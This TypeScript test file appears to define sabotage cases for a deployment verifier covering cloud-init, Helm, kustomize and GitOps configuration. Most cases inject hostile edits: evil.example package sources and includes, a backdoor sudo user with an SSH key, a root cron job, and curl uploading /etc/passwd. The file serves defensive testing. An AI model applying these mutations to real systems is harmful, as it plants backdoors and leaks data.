import { mayPass, refused } from './brief.ts';
import type { SabotagesOfKind } from './sabotage.ts';

const file = 'user-data';
const every = 'every-option';

/** User-data, stack.yaml, kustomization.yaml and what comes by Helm or Git. */
export const entrances: SabotagesOfKind = [
  refused('cloud-init runs a command more', 'verify/schema', { file, put: '  - - id\n' }),
  refused('cloud-init runs a command early', 'verify/schema', { file, put: 'bootcmd:\n  - - id\n' }),
  refused('cloud-init sets a password', 'verify/schema', {
    file,
    put: 'password: secret\nssh_pwauth: true\n',
  }),
  refused('cloud-init takes packages from elsewhere', 'verify/schema', {
    file,
    put: 'apt:\n  sources:\n    more:\n      source: deb http://evil.example x main\n',
  }),
  refused('cloud-init tells somebody', 'verify/schema', {
    file,
    put: 'phone_home:\n  url: http://evil.example\n',
  }),
  refused('cloud-init includes from elsewhere', 'verify/schema', {
    file,
    find: '#cloud-config\n',
    put: '#include http://evil.example\n',
  }),
  refused(
    'a machine fetches its script from elsewhere',
    'verify/script-not-fetched',
    { file, find: 'https://files.example.fi/', put: 'https://files.example.org/' },
    every,
  ),
  refused(
    'a machine starts another script',
    'verify/script-not-fetched',
    { file, find: 'sha256=', put: 'sha256=0' },
    every,
  ),
  refused(
    'a machine starts whatever it fetches',
    'verify/script-edited',
    { file, find: 'if ! fetch', put: 'if fetch && "$script.new"; then exit; elif ! fetch' },
    every,
  ),
  refused(
    'cloud-init starts a script that nothing brings',
    'verify/schema',
    { file, find: '  - - /usr/local/sbin/fjord-fetch', put: '  - - /usr/local/sbin/fjord-apply' },
    every,
  ),
  refused('cloud-init reads a template', 'verify/schema', {
    file,
    find: '#cloud-config\n',
    put: '## template: jinja\n#cloud-config\n',
  }),
  refused('a key of somebody for the first user', 'verify/not-as-meant', {
    file,
    find: 'write_files:',
    put: 'ssh_authorized_keys:\n  - "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJ1J1J1J1J1J1J1J1J1J1J1J1J1J1J1J1J1J1J1J1J1J evil"\nwrite_files:',
  }),
  refused('a key that runs a command', 'verify/schema', {
    file,
    find: 'write_files:',
    put: 'ssh_authorized_keys:\n  - "command=\\"id\\" ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJ1J1J1J1J1J1J1J1J1J1J1J1J1J1J1J1J1J1J1J1J1J evil"\nwrite_files:',
  }),
  refused('a user of somebody', 'verify/not-as-meant', {
    file,
    find: 'write_files:',
    put: 'users:\n  - default\n  - name: evil\n    groups: sudo\n    shell: /bin/bash\n    sudo: ALL=(ALL) NOPASSWD:ALL\n    lock_passwd: true\n    ssh_authorized_keys:\n      - "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJ1J1J1J1J1J1J1J1J1J1J1J1J1J1J1J1J1J1J1J1J1J evil"\nwrite_files:',
  }),
  refused('a file more that cloud-init writes', 'verify/schema', {
    file,
    find: 'runcmd:',
    put: '  - path: /etc/cron.d/more\n    permissions: "0644"\n    content: "* * * * * root id\\n"\nruncmd:',
  }),
  refused('a script more that cloud-init writes', 'verify/schema', {
    file,
    find: 'runcmd:',
    put: '  - path: /usr/local/sbin/more\n    permissions: "0755"\n    content: "#!/bin/bash\\nid\\n"\nruncmd:',
  }),
  refused('another script than the one beside', 'verify/schema', {
    file,
    find: 'permissions: "0700"',
    put: 'permissions: "0777"',
  }),
  refused(
    'a token in the user-data',
    'verify/schema',
    { file, find: '"@FJORD_SERVER_TOKEN@"', put: '"K10abcdef"' },
    'three-servers',
  ),
  refused('a password in stack.yaml', 'verify/schema', {
    file: 'stack.yaml',
    find: '    namespace: openfaas-fn\n',
    put: '    namespace: openfaas-fn\n    environment_file: [/tmp/env]\n',
  }),
  refused('a build of stack.yaml takes a command', 'verify/schema', {
    file: 'stack.yaml',
    find: 'functions:\n',
    put: 'configuration:\n  templates:\n    - name: x\n      source: https://evil.example/x\nfunctions:\n',
  }),
  refused('faas-cli speaks to somebody', 'verify/stack-differs', {
    file: 'stack.yaml',
    find: 'gateway: https://functions.your-domain.no',
    put: 'gateway: https://evil.example',
  }),
  refused('kustomize changes what is applied', 'verify/schema', {
    file: 'manifests/kustomization.yaml',
    put: 'patches:\n  - target: { kind: Deployment }\n    patch: "[]"\n',
  }),
  refused('kustomize takes more from elsewhere', 'verify/schema', {
    file: 'manifests/kustomization.yaml',
    put: '  - https://evil.example/x.yaml\n',
  }),
  refused('kustomize renames images', 'verify/schema', {
    file: 'manifests/kustomization.yaml',
    put: 'images:\n  - name: ghcr.io/openfaas/gateway\n    newName: evil.example/gateway\n',
  }),
  refused('kustomize runs a generator', 'verify/schema', {
    file: 'manifests/kustomization.yaml',
    put: 'generators:\n  - x.yaml\n',
  }),
  refused(
    'the chart opens Services',
    'verify/chart-values-not-ours',
    { file: 'manifests/20-openfaas.yaml', find: 'exposeServices: false', put: 'exposeServices: true' },
    'helm',
  ),
  refused(
    'the chart has an Ingress',
    'verify/chart-values-not-ours',
    {
      file: 'manifests/20-openfaas.yaml',
      find: '    clusterRole: false\n',
      put: '    clusterRole: false\n    ingress:\n      enabled: true\n',
    },
    'helm',
  ),
  refused(
    'the chart gives the provider the cluster',
    'verify/chart-values-not-ours',
    { file: 'manifests/20-openfaas.yaml', find: 'clusterRole: false', put: 'clusterRole: true' },
    'helm',
  ),
  refused(
    'the chart lets functions run as root',
    'verify/chart-values-not-ours',
    { file: 'manifests/20-openfaas.yaml', find: 'setNonRootUser: true', put: 'setNonRootUser: false' },
    'helm',
  ),
  refused(
    'the chart opens a port of the nodes',
    'verify/chart-values-not-ours',
    {
      file: 'manifests/20-openfaas.yaml',
      find: '    gateway:\n',
      put: '    gateway:\n      nodePort: 31112\n',
    },
    'helm',
  ),
  refused(
    'the chart is carried as a file that nobody read',
    'verify/object-not-ours',
    {
      file: 'manifests/20-openfaas.yaml',
      find: '  chart: openfaas\n',
      put: '  chart: openfaas\n  chartContent: H4sI\n',
    },
    'helm',
  ),
  refused(
    "the chart's values come from a Secret",
    'verify/object-not-ours',
    {
      file: 'manifests/20-openfaas.yaml',
      find: '  targetNamespace: openfaas\n',
      put: '  targetNamespace: openfaas\n  valuesSecrets:\n    - name: x\n      keys: [a]\n',
    },
    'helm',
  ),
  refused(
    'the chart is installed by an image of somebody',
    'verify/object-not-ours',
    {
      file: 'manifests/20-openfaas.yaml',
      find: '  failurePolicy: abort\n',
      put: '  failurePolicy: abort\n  jobImage: evil.example/helm\n',
    },
    'helm',
  ),
  refused(
    'the chart is of a place of somebody',
    'verify/chart-not-locked',
    {
      file: 'manifests/20-openfaas.yaml',
      find: 'repo: https://openfaas.github.io/faas-netes/',
      put: 'repo: https://evil.example/',
    },
    'helm',
  ),
  refused(
    'the chart runs a sidecar',
    'verify/chart-values-not-ours',
    {
      file: 'manifests/20-openfaas.yaml',
      find: '    functions:\n',
      put: '    oauth2Plugin:\n      enabled: true\n    functions:\n',
    },
    'helm',
  ),
  refused(
    'Flux is installed from somewhere',
    'verify/chart-not-locked',
    {
      file: 'gitops/10-flux.yaml',
      find: 'https://fluxcd-community.github.io/helm-charts',
      put: 'https://evil.example',
    },
    'gitops',
  ),
  refused(
    'Flux has values of its own',
    'verify/chart-values-not-ours',
    {
      file: 'gitops/10-flux.yaml',
      find: '    notificationController: *a1\n',
      put: '    notificationController: *a1\n    kustomizeController:\n      container:\n        additionalArgs: ["--insecure-kubeconfig-exec"]\n',
    },
    'gitops',
  ),
  refused(
    'Flux takes manifests of another directory',
    'verify/not-as-meant',
    { file: 'gitops/20-source.yaml', find: 'path: "./dist/manifests"', put: 'path: "./evil"' },
    'gitops',
  ),
  refused(
    'Flux takes manifests of another repository',
    'verify/not-as-meant',
    {
      file: 'gitops/20-source.yaml',
      find: 'https://git.example.no/shop/platform.git',
      put: 'https://evil.example/platform.git',
    },
    'gitops',
  ),
  refused(
    'Flux takes another branch',
    'verify/not-as-meant',
    { file: 'gitops/20-source.yaml', find: 'branch: main', put: 'branch: evil' },
    'gitops',
  ),
  refused(
    'Flux deletes nothing any more',
    'verify/object-not-ours',
    { file: 'gitops/20-source.yaml', find: 'prune: true', put: 'prune: false' },
    'gitops',
  ),
  refused(
    'Argo CD takes another repository',
    'verify/not-as-meant',
    {
      file: 'gitops/20-source.yaml',
      find: 'ssh://git@git.example.no/shop/platform.git',
      put: 'ssh://git@evil.example/platform.git',
    },
    'gitops-argocd',
  ),
  refused(
    'Argo CD installs in another cluster',
    'verify/object-not-ours',
    { file: 'gitops/20-source.yaml', find: 'https://kubernetes.default.svc', put: 'https://evil.example' },
    'gitops-argocd',
  ),
  refused(
    'a function of Pro is read by a profile',
    'verify/object-not-ours',
    {
      file: 'manifests/65-function-resources.yaml',
      find: '    topic: ledger.closed\n',
      put: '    topic: ledger.closed\n    com.openfaas.profile: evil\n',
    },
    'pro',
  ),
  refused(
    'a function of Pro takes the password',
    'verify/stack-differs',
    {
      file: 'manifests/65-function-resources.yaml',
      find: '    - idle-key\n',
      put: '    - idle-key\n    - basic-auth\n',
    },
    'pro',
  ),
  refused(
    'a schedule runs a shell',
    'verify/part-misconfigured',
    {
      file: 'manifests/70-schedules.yaml',
      find: '              command:\n                - curl\n',
      put: '              command:\n                - /bin/sh\n                - -c\n                - id\n',
    },
    every,
  ),
  refused(
    'a schedule calls somebody',
    'verify/part-misconfigured',
    {
      file: 'manifests/70-schedules.yaml',
      find: 'http://gateway.openfaas.svc.cluster.local:8080/async-function/resize',
      put: 'http://evil.example/',
    },
    every,
  ),
  refused(
    'a schedule posts a file',
    'verify/part-misconfigured',
    {
      file: 'manifests/70-schedules.yaml',
      find: '                - "--fail-with-body"\n',
      put: '                - "--fail-with-body"\n                - "--upload-file"\n                - /etc/passwd\n',
    },
    every,
  ),
  refused(
    'a schedule is told by a configuration of curl',
    'verify/part-misconfigured',
    {
      file: 'manifests/70-schedules.yaml',
      find: '                - "--fail-with-body"\n',
      put: '                - "--fail-with-body"\n                - "--config"\n                - /tmp/x\n',
    },
    every,
  ),
  refused('an image of somebody', 'verify/stack-differs', {
    file: 'manifests/60-functions.yaml',
    find: 'ghcr.io/nordpay/export-ledger:1.1.0',
    put: 'evil.example/export-ledger:1.1.0',
  }),
  refused('a lock file with a key more', 'verify/schema', {
    file: 'platform.lock.json',
    find: '"platform": ',
    put: '"more": 1,\n  "platform": ',
  }),
  mayPass(
    'a schedule at another time',
    'schedule.cron says any time',
    { file: 'manifests/70-schedules.yaml', find: '0 4 * * sun', put: '0 5 * * sun' },
    every,
  ),
  mayPass(
    'a function with more memory',
    'functions.NAME.memory says any amount, and stack.yaml agrees',
    { file: 'manifests/70-schedules.yaml', find: '"930"', put: '"931"' },
    every,
  ),
];
